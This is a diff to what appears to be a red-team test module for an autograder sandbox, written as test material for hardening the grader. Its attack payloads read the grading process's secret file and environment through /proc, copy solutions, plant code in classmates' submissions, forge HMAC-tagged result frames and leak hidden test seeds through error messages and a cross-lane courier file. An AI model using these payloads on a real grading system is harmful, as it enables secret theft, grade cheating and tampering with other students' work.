@@ -182,10 +182,11 @@ except Exception as _atk_exc:
 '''
 
 
-def side_effect(row: str, body: str, **values) -> str:
-    """A side-effect attack module tail: prelude, the attack, its call at import time, the status report."""
+def side_effect(row: str, body: str, report: str = REPORT, **values) -> str:
+    """A side-effect attack module tail: prelude, the attack, its call at import time, the status report (by
+    default through l2_penalty, :data:`REPORT`)."""
     function = re.search(r"^def (_atk_\w+)\(", body, re.M).group(1)
-    return render(PRELUDE + body + _run(function) + REPORT, ROW=row, **values)
+    return render(PRELUDE + body + _run(function) + report, ROW=row, **values)
 
 
 # ----------------------------------------------------------------------------------------- row 1
@@ -453,13 +454,30 @@ def _atk_r05_read():
 
 FORGE_OWN_PIPE = r'''
 
+def _atk_r09_by_hand(fd):
+    """Where the kit's modules cannot be imported (the child's guard refuses them): the frames built by hand, in the
+    wire's layout (length, kind, payload, a SHA-256 tag under a guessed key), with an empty observation."""
+    import hashlib
+    import hmac
+    import struct
+    key, frames = _atk_os.urandom(32), b""
+    for seq, (kind, payload) in enumerate([(b"L", b"{}"), (b"S", b"l2_penalty"), (b"R", b"")]):
+        tag = hmac.new(key, struct.pack(">Q", seq) + kind + payload, hashlib.sha256).digest()
+        frames += struct.pack(">IB", len(payload), kind[0]) + payload + tag
+    _atk_write_all(fd, frames)
+    _atk_os._exit(0)
+
+
 def _atk_r09_forge():
     """Compute every probe with the trusted library and write the frames into this child's own pipe; leave."""
     fd, probes, data_json = _atk_own_channel()
     if fd is None:
         return
-    from grader.data import datasets
-    from grader.engine import probing, trusted, wire
+    try:
+        from grader.data import datasets
+        from grader.engine import probing, trusted, wire
+    except Exception:
+        _atk_r09_by_hand(fd)
     probes = probes or ["l2_penalty", "weight_decay"]
     data = datasets.DataSpec.from_json(data_json) if data_json else datasets.DIGITS
     observed = probing.observe(dict(trusted.FUNCTIONS), {}, probes, data)
@@ -687,3 +705,206 @@ SHORTCUT_ENCODING: dict[str, tuple[str, str]] = {
     "latin1": ("mlp", "latin-1"),
     "utf7": ("mlp", "utf-7"),
 }
+
+# ----------------------------------------------------------------------------------------- the container case
+
+# Appended to mlp.py of a copy of the solutions: relu is right on matrices (so relu's gradient check and the MLP
+# training score) and reports the attack's status on the (3, 4, 5) arrays of relu's value checks, the channel a
+# submission has back to its report.
+REPORT_RELU = r'''
+
+def relu(X):
+    """This submission's own relu: right on matrices, and on 3-D arrays the status of attack @@ROW@@."""
+    if X.ndim == 3:
+        raise RuntimeError("attack @@ROW@@: " + " ".join(_ATK_STATUS)[:225])
+    return jnp.maximum(X, 0)
+'''
+
+CONTAINER = r'''
+
+def _atk_container():
+    """Running as the children's own unprivileged user with no other wall (no Landlock, no namespaces, no seccomp):
+    find the grading process, then steal the secret it names, the secret in its environment, the kit's solutions;
+    plant code in the kit and in a classmate's files (the original folder and the copy being graded)."""
+    import time
+    # the grading process: up the parents (/proc/<pid>/status) to the one whose command line names the secret
+    pid, argv = _atk_os.getppid(), []
+    for _ in range(10):
+        try:
+            parts = [a.decode(errors="replace") for a in _atk_read("/proc/%d/cmdline" % pid).split(b"\0") if a]
+        except OSError as exc:
+            _atk_note("cmd=" + type(exc).__name__)
+            break
+        if "--secret-file" in parts[:-1]:
+            argv = parts
+            break
+        try:
+            status = _atk_read("/proc/%d/status" % pid).decode(errors="replace")
+            pid = int(next(l.split()[1] for l in status.splitlines() if l.startswith("PPid:")))
+        except (OSError, ValueError, IndexError, StopIteration):
+            break
+        if pid <= 1:
+            break
+    _atk_note("cmd=" + ("found" if argv else "none"))
+
+    def steal(label, read):
+        try:
+            _atk_note("%s=READ:%s" % (label, read()[:20]))
+        except OSError as exc:
+            _atk_note("%s=%s" % (label, type(exc).__name__))
+
+    if argv:
+        secret = argv[argv.index("--secret-file") + 1]
+        steal("sec", lambda: _atk_read(secret).decode(errors="replace"))
+
+        def from_environ():
+            for item in _atk_read("/proc/%d/environ" % pid).split(b"\0"):
+                if item.startswith(b"DL_BASICS_SECRET="):
+                    return item.split(b"=", 1)[1].decode(errors="replace")
+            return "no variable"
+        steal("env", from_environ)
+    kit = "@@KIT@@"
+    steal("sol-ls", lambda: ",".join(_atk_os.listdir(_atk_os.path.join(kit, "solutions"))))
+    steal("sol", lambda: _atk_read(_atk_os.path.join(kit, "solutions", "mlp.py")).decode(errors="replace"))
+    _atk_note("kit=" + _atk_write(_atk_os.path.join(kit, "grader", _ATK_TOKEN + "_planted.py"), b"x = 1\n", "xb"))
+    planted = b"\n\ndef relu(X):\n    raise RuntimeError('planted by a classmate')\n"
+    if argv and "batch" in argv[:-1]:
+        classroom = argv[argv.index("batch") + 1]
+        steal("cls-ls", lambda: ",".join(_atk_os.listdir(classroom)))
+        _atk_note("orig=" + _atk_write(_atk_os.path.join(classroom, "@@VICTIM@@", "mlp.py"), planted, "ab"))
+    # the classmate's copy being graded: a grade-* folder beside this child's own, or in /tmp
+    own = _atk_os.path.dirname(_atk_os.getcwd())
+    deadline, results = time.monotonic() + @@WAIT_SECONDS@@, []
+    while time.monotonic() < deadline and not results:
+        for base in dict.fromkeys([_atk_os.path.dirname(own), "/tmp"]):
+            try:
+                names = _atk_os.listdir(base)
+            except OSError:
+                continue
+            for name in names:
+                sibling = _atk_os.path.join(base, name)
+                if name.startswith("grade-") and sibling != own:
+                    done = _atk_write(_atk_os.path.join(sibling, "submission", "mlp.py"), planted, "ab")
+                    if done != "outside":
+                        results.append(done)
+        if not results:
+            time.sleep(0.2)
+    _atk_note("tmp=" + (",".join(sorted(set(results))) or "none"))
+'''
+
+# ----------------------------------------------------------------------------------------- hidden probes' seeds
+
+# Bodies of relu (in a copy of the solutions) that try to bring the hidden probes' seeds or inputs into a report.
+# The child's own command line, into relu's error message (shown for the public checks).
+SEED_ARGV = '''
+import sys
+raise NotImplementedError(" ".join(sys.argv))
+'''
+
+# The command lines of this process and of its parent (the grading process, where /proc shows it), and every number
+# of six digits or more in them (a seed is below 2**31), into relu's error message.
+SEED_PROC = '''
+import os
+import re
+seen, numbers, pid = [], set(), "self"
+for label in ("self", "parent"):
+    try:
+        with open("/proc/%s/cmdline" % pid, "rb") as f:
+            numbers.update(re.findall(rb"[0-9]{6,}", f.read()))
+        with open("/proc/%s/status" % pid) as f:
+            pid = int(next(l.split()[1] for l in f.read().splitlines() if l.startswith("PPid:")))
+        seen.append(label + "=ok")
+    except (OSError, ValueError, StopIteration) as exc:
+        seen.append(label + "=" + type(exc).__name__)
+        break
+    if pid <= 0:
+        break
+raise RuntimeError(" ".join(seen) + " numbers: " + " ".join(sorted(n.decode() for n in numbers)))
+'''
+
+# Whatever relu is given, into a marker: the input's shape and its sum when it is concrete. SEED_MARKER raises it
+# (relu's error message) and, for 3-D or 1-D inputs of other shapes than the public probe's (3, 4, 5) and (5,) (the
+# MLP training gives relu matrices), raises a review note on a line of its own (a note names the line).
+# SEED_NAMED raises a review note under a file name made of the marker (code compiled under a name of the student's
+# choosing; the static scan takes relu's points for the exec, the note is what counts here) and is right otherwise.
+_MARKER = '''
+import os
+shape = "x".join(str(int(d)) for d in X.shape)
+try:
+    total = "%.3f" % float(jnp.sum(X.astype(jnp.float32)))
+except Exception:
+    total = "traced"
+marker = "MKR-%s-%s-" % (shape, total)
+'''
+
+SEED_MARKER = _MARKER + '''
+if (X.ndim == 3 and tuple(X.shape) != (3, 4, 5)) or (X.ndim == 1 and tuple(X.shape) != (5,)):
+    open("/proc/self/stat").close()  # SEED-MARKER-HIDDEN-LINE
+raise ValueError(marker)
+'''
+
+SEED_NAMED = _MARKER + '''
+exec(compile("open('/proc/self/stat').close()", os.path.join(os.path.dirname(__file__), marker + ".py"), "exec"))
+return jnp.maximum(X, 0)
+'''
+
+
+def hidden_marker_line(source: str) -> int:
+    """The line of :data:`SEED_MARKER`'s hidden-only review note in a module's ``source``."""
+    return next(i for i, line in enumerate(source.splitlines(), 1) if "SEED-MARKER-HIDDEN-LINE" in line)
+
+# relu of a submission probed by two children side by side (lanes), as the same user: on a hidden input (3-D or
+# 1-D, of another shape than the public probe's) it leaves the input's shape in a file in its home, then raises;
+# on the MLP training's first matrix (n, 256) it waits up to @@WAIT_SECONDS@@ s for such a file in a sibling
+# child's home and raises with what it found, into the training's public message.
+SEED_COURIER = '''
+import glob
+import os
+import time
+home = os.environ.get("HOME", "")
+shape = tuple(int(d) for d in X.shape)
+if (X.ndim == 3 and shape != (3, 4, 5)) or (X.ndim == 1 and shape != (5,)):
+    with open(os.path.join(home, "courier"), "a") as f:
+        f.write("MKR-%s-" % "x".join(map(str, shape)))
+    raise ValueError("courier wrote")
+if X.ndim == 2 and shape[1] == 256 and not os.path.exists(os.path.join(home, "waited")):
+    open(os.path.join(home, "waited"), "w").close()
+    deadline = time.monotonic() + @@WAIT_SECONDS@@
+    while time.monotonic() < deadline and not os.path.exists(os.path.join(home, "found")):
+        for path in glob.glob(os.path.join(os.path.dirname(home), "home*", "courier")):
+            try:
+                with open(path) as f:
+                    found = f.read()
+            except OSError:
+                continue
+            if found:
+                with open(os.path.join(home, "found"), "w") as f:
+                    f.write(found)
+        time.sleep(0.2)
+if os.path.exists(os.path.join(home, "found")):  # every call from now on (a failed trace is retried eagerly)
+    with open(os.path.join(home, "found")) as f:
+        raise ValueError("courier: " + f.read())
+return jnp.maximum(X, 0)
+'''
+
+# Probes a submission with two lanes (``grade`` takes as many as the machine has idle cores, so the command line
+# cannot ask for them): ``python -c LANES REPORT FOLDER STUDENT SECRET_FILE OUT``.
+LANES = r'''
+import json, sys
+report, (folder, student, secret_file, out) = sys.argv[1], sys.argv[2:]
+status = 3
+try:
+    import grader
+    from grader.engine import sandbox
+    from grader.engine.secret import Secret
+    seeds = Secret.from_file(secret_file).seeds(student, ["hidden.relu"])
+    run = sandbox.run_probes(folder, ["relu", "mlp", "hidden.relu"], sandbox.Limits(lanes=2), seeds=seeds)
+    with open(out, "w") as f:
+        json.dump({"errors": {p: o.errors for p, o in run.observations.items()}, "notes": run.notes,
+                   "layers": run.layers.describe()}, f)
+    status = 0
+finally:
+    with open(report, "w") as f:
+        json.dump({"status": status, "grader_file": getattr(sys.modules.get("grader"), "__file__", None)}, f)
+sys.exit(status)
+'''
